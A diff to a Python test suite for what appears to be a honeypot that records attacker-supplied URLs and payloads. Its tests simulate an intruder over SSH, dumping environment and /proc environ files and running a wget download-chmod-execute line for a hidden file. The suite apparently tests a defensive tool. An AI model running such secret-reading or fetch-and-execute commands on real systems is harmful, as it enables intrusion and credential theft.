@@ -4,7 +4,6 @@ import hashlib
 import io
 import re
 import subprocess
-import sys
 from pathlib import Path
 
 import httpx2
@@ -155,7 +154,9 @@ def test_no_secret_of_the_operator_comes_out_anywhere(trap: RunningTrap) -> None
         trap.ssh("env; set; cat /proc/self/environ /proc/1/environ /proc/*/cmdline").stdout.decode("latin-1")
     ]
     shown += [trap.get(path) for path in ("/", "/sessions", "/urls", "/operations", "/feed.json")]
-    shown += [trap.cli("status", "--json"), trap.cli("doctor", check=False), trap.log_text()]
+    shown += [trap.cli("status", "--json"), trap.log_text()]
+    examined = trap.process_of("doctor")
+    shown += [examined.stdout.decode(), examined.stderr.decode()]
     for name, state in trap.status()["processes"].items():
         folder = Path("/proc", str(state["pid"]))
         environment = (folder / "environ").read_text()
@@ -195,10 +196,8 @@ def test_an_analyst_logs_in_decides_about_a_url_and_takes_its_payload_home(
     trap.ssh(f"cd /tmp; wget -q {url} -O .z && chmod +x .z && (./.z >/dev/null 2>&1 &)")
     eventually(lambda: url in trap.get("/feed.txt").splitlines(), "the URL is in feed.txt")
     password = "correct horse battery staple"
-    subprocess.run(
-        [sys.executable, "-m", "urltrap.ops", "user", "add", "ada", "--role", "admin"],
-        env=trap.env, input=password.encode() + b"\n", check=True, timeout=60,
-    )  # fmt: skip
+    added = trap.process_of("user", "add", "ada", "--role", "admin", stdin=password.encode() + b"\n")
+    assert added.returncode == 0, added
     trap.cli("user", "allow", "ada", "payloads")
 
     def row() -> dict[str, str]:
